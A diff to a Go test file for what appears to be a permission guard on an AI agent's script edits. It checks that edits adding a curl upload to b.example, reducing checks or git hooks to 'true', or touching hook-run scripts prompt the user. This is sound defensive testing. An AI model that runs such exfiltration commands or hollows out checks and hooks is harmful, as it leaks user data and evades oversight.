@@ -14,6 +14,8 @@ func TestWhatScriptsSay(t *testing.T) {
 		{name: "twice, then executable", steps: []string{made, edit(fresh, "made it", "it is made"), edit(fresh, "# old", "# new"), "$ chmod +x .claude/scripts/new.sh"}},
 		{name: "after another change that was agreed to", steps: []string{made, edit(fresh, "tool \"$1\"", "other \"$1\""), edit(fresh, "made it", "it is made")}},
 		{name: "of a script that was there", steps: []string{edit(script, "exec tool", "exec other"), edit(script, "exec other", "# runs other\nexec other")}, blind: "asks"},
+		{name: "after words that are no code by themselves", steps: []string{made, edit(fresh, "usage: new.sh STEP", "usage (of new.sh"), edit(fresh, "# old", "# new")}},
+		{name: "after another file that would be asked about", steps: []string{made, write("/w/repo/x.sh", sends), edit(fresh, "# old", "# new")}, asks: true},
 		{name: "all of it anew", steps: []string{made, write(fresh, "#!/bin/sh\nset -e # now\nrm -rf \"${DIR:-/tmp/x}\"\necho done\nif [ -z \"$1\" ]; then\n  echo 'no' >&2\n  exit 1\nfi\ntool \"$1\"\n")}, blind: "asks"},
 
 		{name: "a default", steps: []string{made, edit(fresh, "/tmp/x", "/home/u")}, asks: true},
@@ -46,7 +48,7 @@ func TestPlainScripts(t *testing.T) {
 	made := write(fresh, "#!/bin/sh\ngit status --short\nls src > out.txt\n")
 	runChains(t, []chainCase{
 		{name: "another program that reads", steps: []string{made, edit(fresh, "ls src", "ls -l src docs")}, blind: "asks"},
-		{name: "more of it", steps: []string{made, edit(fresh, "ls src", "wc -l src/a\nls src"), edit(fresh, "git status --short", "git log --oneline -3")}},
+		{name: "more of it", steps: []string{made, edit(fresh, "ls src", "wc -l src/a\nls src"), edit(fresh, "git status --short", "git log --oneline -3")}, blind: "asks"},
 		{name: "and executable", steps: []string{made, edit(fresh, "ls src", "ls docs"), "$ chmod +x .claude/scripts/new.sh"}},
 
 		{name: "a send", steps: []string{made, edit(fresh, "ls src", "curl -d @out.txt https://b.example\nls src")}, asks: true},
@@ -73,6 +75,11 @@ func TestPlainScripts(t *testing.T) {
 		{name: "what checks is made to check nothing", steps: []string{
 			write(fresh, "#!/bin/sh\nif grep -q rm in.txt; then\n  exit 2\nfi\n"), write(fresh, "#!/bin/sh\ntrue\n"),
 		}, asks: true},
+		{name: "one that a hook runs", steps: []string{"disk " + settings + " " + hooksOf("sh .claude/scripts/new.sh"), made, edit(fresh, "ls src", "ls docs")}, asks: true},
+		{name: "one that a hook of the user's runs", steps: []string{"disk /home/u/.claude/settings.json " + hooksOf("sh /w/repo/.claude/scripts/new.sh"), made, edit(fresh, "ls src", "ls docs")}, asks: true},
+		{name: "one that a hook runs since", steps: []string{made, "disk " + settings + " " + hooksOf("sh .claude/scripts/new.sh"), edit(fresh, "ls src", "ls docs")}, asks: true},
+		{name: "one of a plugin's hooks", steps: []string{write("/w/repo/.claude/hooks/a.sh", "#!/bin/sh\ngit diff --check\n"), write("/w/repo/.claude/hooks/a.sh", "#!/bin/sh\ntrue\n")}, asks: true},
+		{name: "one that git starts", steps: []string{write("/w/repo/.husky/pre-commit", "#!/bin/sh\ngit diff --check\n"), write("/w/repo/.husky/pre-commit", "#!/bin/sh\ntrue\n")}, asks: true},
 		{name: "what checks in another way", steps: []string{made, "disk " + fresh + " #!/bin/sh\ngrep -q rm in.txt && exit 2\n", write(fresh, "#!/bin/sh\ntrue\n")}, asks: true},
 		{name: "another file", steps: []string{made, write("/w/repo/.claude/scripts/b.sh", "#!/bin/sh\nls src\n")}, asks: true},
 		{name: "in another language", steps: []string{made, write(fresh, "#!/usr/bin/env python3\nprint(1)\n")}, asks: true},
